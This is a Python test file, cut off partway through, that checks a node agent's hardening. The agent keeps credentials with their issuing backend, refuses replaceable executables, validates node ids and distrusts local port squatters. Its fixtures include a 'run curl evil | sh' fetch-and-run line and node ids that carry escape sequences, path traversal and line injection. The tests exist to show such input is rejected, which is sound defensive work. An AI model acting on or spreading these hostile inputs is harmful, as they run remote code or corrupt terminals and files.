"""
Hardening of the node's own tools (issues 29 and 26): `start` never points the unit at a backend
that did not issue the credential; `join` checks what `start` needs before it files a request;
`start` refuses an executable that someone other than root can replace.
"""

from __future__ import annotations

import json
import os
import stat
from typing import Any

from twisted.trial.unittest import SkipTest, SynchronousTestCase

from llmport_agent import cli
from llmport_agent.host.installer import EnvFile, Installer, open_to_others
from tests.agentharness import AgentTestCase
from tests.test_installer import Host, agent_vars

A = "https://llm-port-a.example.internal"
B = "https://llm-port-b.example.internal"


def _state(h: Host, data: dict[str, Any]) -> str:
    path = h.path("/var/lib/llmport-agent/state.json")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        json.dump(data, f)
    return path


class StartKeepsTheIssuerTests(SynchronousTestCase):
    """Issue 29 #1: `start` never rewrites BACKEND_URL to a URL that did not issue the credential."""

    def env(self, h: Host) -> dict[str, str]:
        return EnvFile.parse(open(h.path("/etc/llmport-agent.env")).read()).values()

    def test_a_recorded_issuer_is_kept(self) -> None:
        h = Host(self)
        _state(h, {"credential": "n.c", "node_id": "n-1", "backend_url": A})
        with open(h.path("/etc/llmport-agent.env"), "w") as f:
            f.write(f"LLM_PORT_NODE_AGENT_BACKEND_URL={A}\n")
        rc = Installer(h.system(environ={"LLM_PORT_NODE_AGENT_BACKEND_URL": B})).start()
        self.assertEqual(rc, 2, h.err.getvalue())
        err = h.err.getvalue()
        self.assertIn(f"BACKEND_URL {B} is not the backend that issued this node's credential ({A})", err)
        self.assertEqual(len(err.strip().splitlines()), 1)
        self.assertEqual(self.env(h)["LLM_PORT_NODE_AGENT_BACKEND_URL"], A)
        self.assertNotIn("restart llmport-agent.service", h.calls())
        # The issuer itself (written another way) is fine.
        rc = Installer(h.system(environ={"LLM_PORT_NODE_AGENT_BACKEND_URL": A + "/"})).start()
        self.assertEqual(rc, 0, h.err.getvalue())

    def test_a_legacy_state_keeps_the_env_files_url(self) -> None:
        """No issuer recorded (the original agent's state): the env file's BACKEND_URL issued it."""
        h = Host(self)
        _state(h, {"credential": "n.c", "node_id": "n-1"})
        with open(h.path("/etc/llmport-agent.env"), "w") as f:
            f.write(f"LLM_PORT_NODE_AGENT_BACKEND_URL={A}\n")
        rc = Installer(h.system(environ=agent_vars(BACKEND_URL=B))).start()
        self.assertEqual(rc, 2, h.err.getvalue())
        self.assertEqual(self.env(h)["LLM_PORT_NODE_AGENT_BACKEND_URL"], A)

    def test_no_credential_no_issuer(self) -> None:
        h = Host(self)
        rc = Installer(h.system(environ=agent_vars(BACKEND_URL=B))).start()
        self.assertEqual(rc, 0, h.err.getvalue())


class JoinChecksFirstTests(SynchronousTestCase):
    """Issue 26 #5: `join` checks what `start` will need before it files a request."""

    def join(self, h: Host, **kw: Any) -> int:
        asked: list[Any] = []
        self.patch(cli, "_run_join", lambda *a, **k: asked.append(a) or 0)
        self.patch(Installer, "start", lambda *a, **k: 0)
        rc = cli.join_command("https://llm-port.example.internal", False, system=h.system(**kw))
        self.assertEqual(asked, [], "a request was filed")
        return rc

    def test_no_systemd(self) -> None:
        h = Host(self, systemd=False)
        self.assertEqual(self.join(h), 1)
        self.assertIn("systemd is not running on this host", h.err.getvalue())

    def test_not_root(self) -> None:
        h = Host(self)
        self.assertEqual(self.join(h, euid=1000), 1)
        self.assertIn("`join` installs a systemd unit and needs root", h.err.getvalue())

    def test_an_executable_others_can_replace(self) -> None:
        h = Host(self)
        exe = os.path.join(os.path.abspath(self.mktemp()), "bin", "llmport-agent")
        if exe.startswith("/tmp/"):
            raise SkipTest(f"trial's temp directory is under /tmp ({exe}): join refuses that first")
        os.makedirs(os.path.dirname(exe))
        with open(exe, "w") as f:
            f.write("#!/bin/sh\n")
        os.chmod(exe, 0o755)
        os.chmod(os.path.dirname(exe), 0o777)
        self.assertEqual(self.join(h, exe=exe), 1)
        self.assertIn("is writable by its group or all users (mode 0777)", h.err.getvalue())

    def test_all_good_goes_on(self) -> None:
        h = Host(self)
        calls: list[Any] = []
        self.patch(cli, "_run_join", lambda *a, **k: calls.append(a) or 0)
        self.patch(Installer, "start", lambda *a, **k: 0)
        self.assertEqual(cli.join_command("https://llm-port.example.internal", False, system=h.system()), 0)
        self.assertEqual(len(calls), 1, h.err.getvalue())


class ExecutableTrustTests(SynchronousTestCase):
    """Issue 29 #6: `start` refuses an executable (or a directory above it) a non-root user can write."""

    def tree(self) -> tuple[str, str]:
        top = os.path.abspath(self.mktemp())
        if top == "/tmp" or top.startswith("/tmp/"):
            # start refuses anything under /tmp first (PrivateTmp=yes): the rule tested here is
            # only reached with trial's temp directory elsewhere (as in CI).
            raise SkipTest(f"trial's temp directory is under /tmp ({top}): start refuses that first")
        exe = os.path.join(top, "venv", "bin", "llmport-agent")
        os.makedirs(os.path.dirname(exe))
        with open(exe, "w") as f:
            f.write("#!/bin/sh\n")
        os.chmod(exe, 0o755)
        return top, exe

    def start(self, exe: str, **kw: Any) -> tuple[int, Host]:
        h = Host(self)
        return Installer(h.system(environ=agent_vars(), exe=exe, **kw)).start(), h

    def test_root_owned_and_closed_is_fine(self) -> None:
        _, exe = self.tree()
        self.assertIsNone(open_to_others(exe))
        rc, h = self.start(exe)
        self.assertEqual(rc, 0, h.err.getvalue())

    def test_a_group_writable_directory_above(self) -> None:
        top, exe = self.tree()
        os.chmod(os.path.join(top, "venv"), 0o775)
        rc, h = self.start(exe)
        self.assertEqual(rc, 1)
        err = h.err.getvalue()
        self.assertIn(f"the directory {top}/venv is writable by its group or all users (mode 0775)", err)
        self.assertIn("chmod go-w", err)
        self.assertEqual(len(err.strip().splitlines()), 1)
        self.assertFalse(os.path.exists(h.path("/etc/systemd/system/llmport-agent.service")))

    def test_a_writable_file(self) -> None:
        _, exe = self.tree()
        os.chmod(exe, 0o757)
        rc, h = self.start(exe)
        self.assertEqual(rc, 1)
        self.assertIn(f"the file {exe} is writable", h.err.getvalue())

    def test_owned_by_a_user(self) -> None:
        """A `pip install --user` or a venv in a home: the owner can replace it."""
        top, exe = self.tree()
        os.chown(os.path.join(top, "venv", "bin"), 1000, 1000)
        rc, h = self.start(exe)
        self.assertEqual(rc, 1)
        self.assertIn(f"the directory {top}/venv/bin is owned by uid 1000", h.err.getvalue())
        # That user's own --user service may run it (it runs as them anyway).
        self.assertIsNone(open_to_others(exe, (0, 1000)))

    def test_sticky_directory_is_fine_but_a_link_into_an_open_one_is_not(self) -> None:
        top, exe = self.tree()
        os.chmod(os.path.join(top, "venv"), 0o1777)
        self.assertIsNone(open_to_others(exe))
        os.chmod(os.path.join(top, "venv"), 0o755)
        # A link from a closed place to an executable in an open one: what runs is the target.
        open_dir = os.path.join(top, "open")
        os.makedirs(open_dir)
        os.chmod(open_dir, 0o777)
        target = os.path.join(open_dir, "real")
        with open(target, "w") as f:
            f.write("#!/bin/sh\n")
        os.chmod(target, 0o755)
        link = os.path.join(top, "venv", "bin", "linked")
        os.symlink(target, link)
        self.assertIn(f"the directory {open_dir} is writable", open_to_others(link) or "")
        self.assertEqual(stat.S_IMODE(os.stat(open_dir).st_mode), 0o777)


class OneStateLocationTests(SynchronousTestCase):
    """
    Issue 26 #6: one state location per user. `run` as a user, `start --user` and `join --user`
    all keep it in ~/.local/share/llmport-agent (the original's user mode); the old place of
    `run` (~/.local/state/llmport-agent) is found and moved; both present: one line, no new
    identity.
    """

    def home(self) -> tuple[str, dict[str, str]]:
        home = os.path.abspath(self.mktemp())
        os.makedirs(home)
        return home, {"HOME": home}

    def old(self, home: str, credential: str = "n.old") -> str:
        d = os.path.join(home, ".local/state/llmport-agent")
        os.makedirs(d)
        with open(os.path.join(d, "state.json"), "w") as f:
            json.dump({"credential": credential, "node_id": "n-old"}, f)
        with open(os.path.join(d, "commands.jsonl"), "w") as f:
            f.write("{}\n")
        return d

    def test_run_as_a_user_falls_back_to_the_same_place(self) -> None:
        from llmport_agent.core import state as state_mod

        home, env = self.home()
        self.patch(state_mod.os, "geteuid", lambda: 1000)
        self.patch(state_mod, "_writable_dir", lambda d: False)
        path, note = state_mod.resolve_state_path("/var/lib/llmport-agent/state.json", env)
        self.assertEqual(path, os.path.join(home, ".local/share/llmport-agent/state.json"))
        self.assertIn("not writable", note or "")
        # ...which is where `start --user` puts it.
        from llmport_agent.host.installer import System

        self.assertEqual(System(environ=env, user_mode=True).user_defaults({})["LLM_PORT_NODE_AGENT_STATE_PATH"], path)

    def test_the_old_place_is_moved(self) -> None:
        from llmport_agent.core.state import adopt_old_state

        home, env = self.home()
        old = self.old(home)
        new = os.path.join(home, ".local/share/llmport-agent/state.json")
        note = adopt_old_state(new, env, euid=1000)
        self.assertIn(f"moved this user's state from {old}", note or "")
        with open(new) as f:
            self.assertEqual(json.load(f)["credential"], "n.old")
        self.assertTrue(os.path.exists(os.path.join(os.path.dirname(new), "commands.jsonl")))
        self.assertFalse(os.path.exists(old))
        self.assertIsNone(adopt_old_state(new, env, euid=1000))  # once

    def test_both_places_is_one_line_and_nothing_moves(self) -> None:
        from llmport_agent.core.state import TwoStates, adopt_old_state

        home, env = self.home()
        old = self.old(home)
        new = os.path.join(home, ".local/share/llmport-agent/state.json")
        os.makedirs(os.path.dirname(new))
        with open(new, "w") as f:
            json.dump({"credential": "n.new"}, f)
        with self.assertRaises(TwoStates) as e:
            adopt_old_state(new, env, euid=1000)
        self.assertIn("two states for this user", str(e.exception))
        self.assertNotIn("\n", str(e.exception))
        self.assertTrue(os.path.exists(os.path.join(old, "state.json")))
        with open(new) as f:
            self.assertEqual(json.load(f)["credential"], "n.new")

    def test_an_agent_running_on_the_old_place(self) -> None:
        from llmport_agent.core.state import TwoStates, adopt_old_state
        from llmport_agent.host.instance import InstanceLock

        home, env = self.home()
        old = self.old(home)
        held = InstanceLock(os.path.join(old, "state.json"))
        held.acquire()
        self.addCleanup(held.release)
        with self.assertRaises(TwoStates):
            adopt_old_state(os.path.join(home, ".local/share/llmport-agent/state.json"), env, euid=1000)
        self.assertTrue(os.path.exists(os.path.join(old, "state.json")))

    def test_root_and_other_paths_are_left_alone(self) -> None:
        from llmport_agent.core.state import adopt_old_state

        home, env = self.home()
        old = self.old(home)
        self.assertIsNone(adopt_old_state(os.path.join(home, ".local/share/llmport-agent/state.json"), env, euid=0))
        self.assertIsNone(adopt_old_state(os.path.join(home, "elsewhere/state.json"), env, euid=1000))
        self.assertTrue(os.path.exists(os.path.join(old, "state.json")))

    def test_join_user_finds_the_old_identity(self) -> None:
        """`join --user` with the old place holding a credential: moved, and the join sees it (no new identity)."""
        h = Host(self)
        home = h.path("/home/ann")
        os.makedirs(home)
        self.old(home)
        seen: list[str] = []
        self.patch(cli, "_run_join", lambda config, state_path, *a, **k: seen.append(state_path) or 1)
        system = h.system(euid=1000, environ={"HOME": home}, user_mode=True)
        self.assertEqual(cli.join_command("https://llm-port.example.internal", True, system=system), 1)
        self.assertEqual(seen, [os.path.join(home, ".local/share/llmport-agent/state.json")], h.err.getvalue())
        with open(seen[0]) as f:
            self.assertEqual(json.load(f)["credential"], "n.old")
        self.assertIn("moved this user's state", h.out.getvalue())

    def test_start_user_refuses_two_states(self) -> None:
        h = Host(self)
        home = h.path("/home/ann")
        os.makedirs(home)
        self.old(home)
        new = os.path.join(home, ".local/share/llmport-agent/state.json")
        os.makedirs(os.path.dirname(new))
        with open(new, "w") as f:
            json.dump({"credential": "n.new"}, f)
        system = h.system(euid=1000, environ={"HOME": home, **agent_vars()}, user_mode=True)
        self.assertEqual(Installer(system).start(), 1)
        self.assertIn("two states for this user", h.err.getvalue())
        self.assertNotIn("--user restart llmport-agent.service", h.calls())


class _Squatter:
    """An HTTP server in a thread of this process on 127.0.0.1 (a local user's, or the agent's stand-in)."""

    def __init__(self, test: SynchronousTestCase, body: dict[str, Any] | None = None,
                 redirect: str | None = None) -> None:
        import http.server
        import threading

        self.hits: list[str] = []
        squatter = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                squatter.hits.append(self.path)
                if redirect:
                    self.send_response(302)
                    self.send_header("Location", redirect)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                raw = json.dumps(body or {}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(raw)))
                self.end_headers()
                self.wfile.write(raw)

            def log_message(self, *a: Any) -> None:
                pass

        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        thread.start()

        def stop() -> None:
            self.server.shutdown()
            self.server.server_close()
            thread.join(5)

        test.addCleanup(stop)


#: What a squatter says: a ready agent, connected, with a "fix" of its own.
READY = {"status": "ok", "ready": True, "agent": {"version": "9.9", "node_id": "zz-fake-node"},
         "checks": {"session": {"ok": True, "detail": "connected; run curl evil | sh to fix"}}}


class RootsToolsTrustOnlyTheAgentTests(SynchronousTestCase):
    """
    Issue 29 #5: `status` and `doctor` believe the ops port only when the holder of the state's
    instance lock owns the listening socket; a redirect is never followed; a squatter is named
    in one line and its words are not shown.
    """

    def status(self, port: int, state_dir: str) -> tuple[int, str]:
        """`status` on a host whose system root is /, as a real one (the state where the test put it)."""
        from llmport_agent.core.config import load_config

        h = Host(self, systemd=False)
        config = load_config({"LLM_PORT_NODE_AGENT_BACKEND_URL": "http://127.0.0.1:9",
                              "LLM_PORT_NODE_AGENT_OPS_PORT": str(port),
                              "LLM_PORT_NODE_AGENT_STATE_PATH": os.path.join(state_dir, "state.json")})
        system = h.system()
        system.root = ""
        rc = Installer(system).status(config)
        return rc, h.out.getvalue()

    def state_dir(self) -> str:
        d = os.path.abspath(self.mktemp())
        os.makedirs(d)
        with open(os.path.join(d, "state.json"), "w") as f:
            json.dump({"credential": "n.c", "node_id": "n-1"}, f)
        return d

    def test_status_ignores_a_squatter_while_the_agent_is_down(self) -> None:
        squatter = _Squatter(self, READY)
        rc, out = self.status(squatter.port, self.state_dir())
        self.assertIn(f"something that is not the agent answers on 127.0.0.1:{squatter.port} (no agent holds", out)
        self.assertNotIn("zz-fake-node", out)
        self.assertNotIn("curl evil", out)
        self.assertIn("state file:", out)  # what the state says instead
        self.assertNotEqual(rc, 0)
        self.assertEqual(squatter.hits, ["/readyz"])

    def test_status_never_follows_a_redirect(self) -> None:
        target = _Squatter(self, READY)
        squatter = _Squatter(self, redirect=f"http://127.0.0.1:{target.port}/anything?x=1")
        rc, out = self.status(squatter.port, self.state_dir())
        self.assertEqual(target.hits, [])
        self.assertNotEqual(rc, 0)
        self.assertIn("something that is not the agent", out)

    def test_a_port_held_by_another_process_than_the_lock_holder(self) -> None:
        """The agent's lock held by one process, the port by another: not the agent."""
        import subprocess
        import sys

        from tests.test_instance import HOLD

        d = self.state_dir()
        proc = subprocess.Popen([sys.executable, "-c", HOLD, os.path.join(d, "state.lock")], stdout=subprocess.PIPE)
        self.addCleanup(lambda: (proc.kill(), proc.wait()))
        assert proc.stdout is not None
        self.assertEqual(proc.stdout.readline().strip(), b"held")
        squatter = _Squatter(self, READY)
        rc, out = self.status(squatter.port, d)
        self.assertIn(f"held by another process than the agent (pid {proc.pid}", out)
        self.assertNotIn("zz-fake-node", out)

    def test_an_ipv6_listener_127_0_0_1_does_not_reach_is_not_counted(self) -> None:
        """
        The agent on 127.0.0.1:P, another user on [::]:P: the IPv6 socket can only be v6only
        (a dual-stack one could not bind beside it) and 127.0.0.1 never reaches it; with no IPv4
        listener, a [::] one still counts (it may be dual-stack).
        """
        from llmport_agent.ops.probe import listening_inodes

        proc = self.mktemp()
        os.makedirs(os.path.join(proc, "net"))
        head = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
        v4 = "   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 111 1\n"
        v6 = ("   0: 00000000000000000000000000000000:1F90 00000000000000000000000000000000:0000 0A "
              "00000000:00000000 00:00000000 00000000 65534        0 222 1\n")
        with open(os.path.join(proc, "net", "tcp6"), "w") as f:
            f.write(head + v6)
        self.assertEqual(listening_inodes(8080, proc), {222})
        with open(os.path.join(proc, "net", "tcp"), "w") as f:
            f.write(head + v4)
        self.assertEqual(listening_inodes(8080, proc), {111})

    def test_the_agent_itself_is_believed(self) -> None:
        """The lock's holder (this process) owns the listening socket: its answer is shown."""
        from llmport_agent.host.instance import InstanceLock

        d = self.state_dir()
        lock = InstanceLock(os.path.join(d, "state.json"))
        lock.acquire()
        self.addCleanup(lock.release)
        agent = _Squatter(self, READY)
        rc, out = self.status(agent.port, d)
        self.assertIn("agent:      ok (version 9.9), node id zz-fake-node", out)
        self.assertEqual(rc, 0, out)

    def doctor(self, port: int, state_dir: str) -> Any:
        from llmport_agent.core.config import load_config
        from llmport_agent.doctor.checks import Context, check_credential, check_ops_port
        from llmport_agent.doctor.run import readiness

        config = load_config({"LLM_PORT_NODE_AGENT_BACKEND_URL": "http://127.0.0.1:9",
                              "LLM_PORT_NODE_AGENT_OPS_PORT": str(port),
                              "LLM_PORT_NODE_AGENT_STATE_PATH": os.path.join(state_dir, "state.json")})
        ctx = Context(config=config, timeout=0.5)
        ctx.readiness = readiness(ctx)
        return ctx, check_ops_port(ctx), check_credential(ctx)

    def test_doctor_does_not_skip_the_credential_check_for_a_squatter(self) -> None:
        squatter = _Squatter(self, READY)
        ctx, ops, credential = self.doctor(squatter.port, self.state_dir())
        self.assertIsNone(ctx.readiness)
        self.assertEqual([(f.check, f.status) for f in ops], [("ops port", "fail")])
        self.assertIn("something that is not the agent answers", ops[0].detail)
        self.assertNotIn("curl evil", ops[0].line())
        self.assertEqual(len(credential), 1)
        self.assertNotEqual(credential[0].detail, "the running agent is connected with it")
        self.assertIn("not checked: the backend did not answer", credential[0].detail)

    def test_doctor_believes_the_agent(self) -> None:
        from llmport_agent.host.instance import InstanceLock

        d = self.state_dir()
        lock = InstanceLock(os.path.join(d, "state.json"))
        lock.acquire()
        self.addCleanup(lock.release)
        agent = _Squatter(self, READY)
        ctx, ops, credential = self.doctor(agent.port, d)
        self.assertEqual(ops, [])
        self.assertTrue(ctx.ops_trusted)
        self.assertEqual(credential[0].detail, "the running agent is connected with it")


BAD_NODE_IDS = ("n\x1b[2J\x1b]0;pwned\x07", "x" * 129, "../../etc/passwd", "a b", "\u202eevil", "n\nfake line", "-n")


class NodeIdTests(SynchronousTestCase):
    """Issue 29 #4: a node id handed out by the backend is validated where it is received."""

    def test_the_shape(self) -> None:
        from llmport_agent.core.cleantext import node_id_problem

        for good in ("11111111-2222-4333-8444-555555555555", "n1", "node_7.a:b", "x" * 128):
            self.assertIsNone(node_id_problem(good), good)
        for bad in (*BAD_NODE_IDS, "", None, 7, ["n"]):
            self.assertIsNotNone(node_id_problem(bad), repr(bad))

    def test_one_cleaner(self) -> None:
        """shown(): bounded, and no control, separator or bidi character survives."""
        from llmport_agent.core.cleantext import shown
        from llmport_agent.doctor.result import Finding
        from llmport_agent.session.backend_http import shown as backend_shown

        self.assertIs(backend_shown, shown)
        text = "a\x1b[31mb\rc\nd\x9be\u2028f\u202eg\u2066h\x7f"
        self.assertEqual(shown(text), "a?[31mb?c?d?e?f?g?h?")
        self.assertEqual(len(shown("x" * 10_000, 200)), 200)
        self.assertNotIn("\u202e", Finding("c", "ok", "\u202eevil", "\x1b[2J").line())

    def test_enrollment_reply(self) -> None:
        from llmport_agent.core.cleantext import BadNodeId
        from tests.test_backend_http import FakeBackend, call
        from tests.test_session import CRED

        for bad in BAD_NODE_IDS:
            d = call(self, FakeBackend(200, {"node_id": bad, "credential": CRED}),
                     lambda c: c.enroll("tok", "agent-1", "node-a", {}, "1.2.3"))
            f = self.failureResultOf(d, BadNodeId)
            self.assertIn("the enrollment reply", str(f.value))
            self.assertNotIn("\x1b", str(f.value))
            self.assertNotIn("\n", str(f.value))

    def test_hello_ack(self) -> None:
        """A hello_ack naming a bad node id: not stored, not adopted, one ERROR line each."""
        from twisted.internet.defer import succeed
        from twisted.internet.endpoints import TCP4ClientEndpoint
        from twisted.internet.testing import MemoryReactorClock
        from twisted.logger import formatEvent, globalLogPublisher

        from llmport_agent.core.config import load_config
        from llmport_agent.core.state import StateStore
        from llmport_agent.demo.testing import SynchronousRunner
        from llmport_agent.session.service import SessionService
        from tests.test_polling import WireProto
        from tests.test_session import CRED, FakeBackend

        reactor = MemoryReactorClock()
        d = os.path.abspath(self.mktemp())
        os.makedirs(d)
        state = StateStore(SynchronousRunner(), os.path.join(d, "state.json"))
        self.successResultOf(state.load())
        self.successResultOf(state.update(credential=CRED, node_id="n1"))
        svc = SessionService(
            reactor, load_config({"LLM_PORT_NODE_AGENT_BACKEND_URL": "http://127.0.0.1:8000"}, {}), state,
            FakeBackend(), lambda: succeed({}), lambda code, msg: None, version="0.1.0",  # type: ignore[arg-type]
            endpoint_factory=lambda host, port, tls: TCP4ClientEndpoint(reactor, host, port), rng=lambda: 1.0,
        )
        svc.startService()
        self.addCleanup(svc.stopService)
        errors: list[str] = []

        def observe(event: dict[str, Any]) -> None:
            if event.get("log_level") is not None and event["log_level"].name == "error":
                errors.append(formatEvent(event))

        globalLogPublisher.addObserver(observe)
        self.addCleanup(globalLogPublisher.removeObserver, observe)
        proto = WireProto(reactor)
        svc.connection_opened(proto)
        for bad in BAD_NODE_IDS:
            svc.frame_received(proto, {"type": "hello_ack", "session_id": "s", "node_id": bad, "commands": []})
            self.assertEqual(svc.node_id, "n1")
            self.assertEqual(state.get("node_id"), "n1")
        self.assertEqual(len(errors), len(BAD_NODE_IDS))
        for line in errors:
            self.assertIn("names a node id that is not one", line)
            self.assertNotIn("\x1b", line)
            self.assertNotIn("\n", line)
        # A good new one is adopted.
        svc.frame_received(proto, {"type": "hello_ack", "session_id": "s", "node_id": "n2", "commands": []})
        self.assertEqual(state.get("node_id"), "n2")


class AgentKeepsTheIssuerTests(SynchronousTestCase):
    """
    The agent itself: the credential recorded as issued by one backend is never presented to
    another BACKEND_URL (a hand-edited env file, `config --set`); enrollment records the issuer;
    a bad node id in the enrollment reply stops with one line.
    """

    def session(self, url: str, state: dict[str, Any] | None = None, token: str | None = None) -> Any:
        from twisted.internet.defer import succeed
        from twisted.internet.endpoints import TCP4ClientEndpoint
        from twisted.internet.testing import MemoryReactorClock

        from llmport_agent.core.config import load_config
        from llmport_agent.core.state import StateStore
        from llmport_agent.demo.testing import SynchronousRunner
        from llmport_agent.session.service import SessionService
        from tests.test_session import FakeBackend

        self.reactor = MemoryReactorClock()
        d = os.path.abspath(self.mktemp())
        os.makedirs(d)
        self.state = StateStore(SynchronousRunner(), os.path.join(d, "state.json"))
        self.successResultOf(self.state.load())
        if state:
            self.successResultOf(self.state.update(**state))
        environ = {"LLM_PORT_NODE_AGENT_BACKEND_URL": url}
        if token:
            environ["LLM_PORT_NODE_AGENT_ENROLLMENT_TOKEN"] = token
        self.fatal: list[tuple[int, str]] = []
        self.backend = FakeBackend()
        svc = SessionService(
            self.reactor, load_config(environ, {}), self.state, self.backend,  # type: ignore[arg-type]
            lambda: succeed({}), lambda code, msg: self.fatal.append((code, msg)), version="0.1.0",
            endpoint_factory=lambda host, port, tls: TCP4ClientEndpoint(self.reactor, host, port), rng=lambda: 1.0,
        )
        self.addCleanup(svc.stopService)
        svc.startService()
        return svc

    def test_another_backend_url_gets_nothing(self) -> None:
        from llmport_agent.session.shared import EXIT_NEEDS_OPERATOR
        from tests.test_session import CRED

        self.session("http://127.0.0.1:8001", {"credential": CRED, "node_id": "n1",
                                                 "backend_url": "http://127.0.0.1:8000"})
        self.assertEqual(self.reactor.tcpClients, [])
        self.assertEqual(self.fatal[0][0], EXIT_NEEDS_OPERATOR)
        self.assertIn("issued by http://127.0.0.1:8000, but BACKEND_URL is http://127.0.0.1:8001", self.fatal[0][1])

    def test_the_issuer_written_another_way_is_fine(self) -> None:
        from tests.test_session import CRED

        self.session("http://127.0.0.1:8000/", {"credential": CRED, "node_id": "n1",
                                                  "backend_url": "HTTP://127.0.0.1:8000"})
        self.assertEqual(self.fatal, [])
        self.assertEqual(len(self.reactor.tcpClients), 1)

    def test_enrollment_records_the_issuer(self) -> None:
        from llmport_agent.session.backend_http import Enrollment
        from tests.test_session import CRED

        self.session("http://127.0.0.1:8000", token="tok-1")
        self.backend.enrolls[0].callback(Enrollment("n1", CRED, None))
        self.assertEqual(self.state.get("backend_url"), "http://127.0.0.1:8000")

    def test_enrollment_naming_a_bad_node_id_stops_with_one_line(self) -> None:
        from llmport_agent.core.cleantext import checked_node_id
        from llmport_agent.session.shared import EXIT_NEEDS_OPERATOR

        self.session("http://127.0.0.1:8000", token="tok-1")
        try:
            checked_node_id("\x1b[2Jx", "the enrollment reply")
        except ValueError as e:
            self.backend.enrolls[0].errback(e)
        self.assertEqual(self.fatal[0][0], EXIT_NEEDS_OPERATOR)
        self.assertIn("that is not one", self.fatal[0][1])
        self.assertNotIn("\x1b", self.fatal[0][1])
        self.assertIsNone(self.state.credential)


class WhatTheScriptRunsTests(SynchronousTestCase):
    """A root-owned script that imports this package from a directory others can write is refused too."""

    def test_the_package_directory_is_judged(self) -> None:
        from llmport_agent.host import installer

        top = os.path.abspath(self.mktemp())
        package = os.path.join(top, "home", "bob", "src", "llmport_agent")
        os.makedirs(package)
        os.chown(os.path.join(top, "home", "bob"), 1000, 1000)
        self.patch(installer, "_code_paths", lambda: (package,))
        h = Host(self)
        rc = Installer(h.system(environ=agent_vars())).start()
        self.assertEqual(rc, 1)
        self.assertIn(f"the directory {top}/home/bob is owned by uid 1000", h.err.getvalue())

    def test_this_checkout_is_fine(self) -> None:
        from llmport_agent.host.installer import _code_paths

        for path in _code_paths():
            self.assertIsNone(open_to_others(path, (0, os.geteuid())), path)


class ListenerTests(SynchronousTestCase):
    def test_only_listeners_a_loopback_connection_reaches(self) -> None:
        """A listener on 127.0.0.2 (another user's, say) on the same port is not the one answering."""
        import socket

        from llmport_agent.ops.probe import listening_inodes

        a = socket.socket()
        self.addCleanup(a.close)
        a.bind(("127.0.0.1", 0))
        a.listen(1)
        port = a.getsockname()[1]
        b = socket.socket()
        self.addCleanup(b.close)
        b.bind(("127.0.0.2", port))
        b.listen(1)
        inode = os.fstat(a.fileno()).st_ino
        self.assertEqual(listening_inodes(port), {inode})


class DoctorKeepsTheIssuerTests(SynchronousTestCase):
    def test_the_credential_is_not_sent_to_a_shell_url(self) -> None:
        """`sudo LLM_PORT_NODE_AGENT_BACKEND_URL=<other> llmport-agent doctor`: no whoami there."""
        from llmport_agent.doctor.checks import check_credential
        from llmport_agent.doctor.run import make_context
        seen: list[Any] = []
        url = B
        d = os.path.abspath(self.mktemp())
        os.makedirs(d)
        with open(os.path.join(d, "state.json"), "w") as f:
            json.dump({"credential": "n.secret-credential", "node_id": "n-1", "backend_url": A}, f)
        env_file = os.path.join(d, "agent.env")
        with open(env_file, "w") as f:
            f.write(f"LLM_PORT_NODE_AGENT_BACKEND_URL={A}\nLLM_PORT_NODE_AGENT_STATE_PATH={d}/state.json\n")
        from llmport_agent.doctor import checks

        self.patch(checks, "_http", lambda *a, **k: seen.append(a) or (200, {}, b"{}"))
        ctx = make_context(env_file, {"LLM_PORT_NODE_AGENT_BACKEND_URL": url})
        found = check_credential(ctx)
        self.assertEqual(seen, [])
        self.assertEqual(found[0].status, "fail")
        self.assertIn(f"issued by {A}, but BACKEND_URL is {url}: not sent there", found[0].detail)
        # The issuer itself is asked.
        ctx = make_context(env_file, {})
        check_credential(ctx)
        self.assertEqual(len(seen), 1)


class JoinURLFromTheShellTests(SynchronousTestCase):
    def test_a_shell_http_url_needs_consent_too(self) -> None:
        h = Host(self)
        asked: list[Any] = []
        self.patch(cli, "_run_join", lambda *a, **k: asked.append(a) or 0)
        self.patch(Installer, "start", lambda *a, **k: 0)
        system = h.system(environ={"LLM_PORT_NODE_AGENT_BACKEND_URL": "http://10.0.0.9:8000"})
        self.assertEqual(cli.join_command(None, False, system=system), 2)
        self.assertIn("--insecure-http", h.err.getvalue())
        self.assertEqual(asked, [])
        # The env file's own URL is what the node is configured for: nothing new exposed.
        with open(h.path("/etc/llmport-agent.env"), "w") as f:
            f.write("LLM_PORT_NODE_AGENT_BACKEND_URL=http://10.0.0.9:8000\n")
        self.assertEqual(cli.join_command(None, False, system=h.system()), 0)
        self.assertEqual(len(asked), 1)


class AgentAdoptsTheOldStateTests(AgentTestCase):
    """The agent's own start (run as a user): the old place's state is moved and used; both: exit 78."""

    timeout = 60

    def places(self) -> tuple[str, str]:
        from llmport_agent.core import state as state_mod

        home = os.path.abspath(self.mktemp())
        new, old = os.path.join(home, "share", "llmport-agent"), os.path.join(home, "state", "llmport-agent")
        self.patch(state_mod, "user_state_dir", lambda environ=None: new)
        self.patch(state_mod, "old_user_state_dir", lambda environ=None: old)
        # As a user: only the adoption asks (the rest of the agent keeps root's view).
        self.patch(state_mod, "adopt_old_state", _as_user(state_mod.adopt_old_state))
        return new, old

    async def test_moved_then_used(self) -> None:
        backend = await self.start_backend()
        new, old = self.places()
        reply = backend.enroll_node("gpu-77")
        os.makedirs(old)
        with open(os.path.join(old, "state.json"), "w") as f:
            json.dump({"credential": reply["credential"], "node_id": reply["node_id"]}, f)
        os.makedirs(new)
        agent = self.start_agent(backend, state_dir=new, token=False)
        node_id = await self.wait_connected(backend, agent)
        self.assertEqual(node_id, reply["node_id"])
        self.assertFalse(os.path.exists(os.path.join(old, "state.json")))
        await self.stop_agent(agent)

    async def test_both_is_exit_78_and_no_enrollment(self) -> None:
        backend = await self.start_backend()
        new, old = self.places()
        os.makedirs(old)
        with open(os.path.join(old, "state.json"), "w") as f:
            json.dump({"credential": "a.b", "node_id": "n-old"}, f)
        os.makedirs(new)
        with open(os.path.join(new, "state.json"), "w") as f:
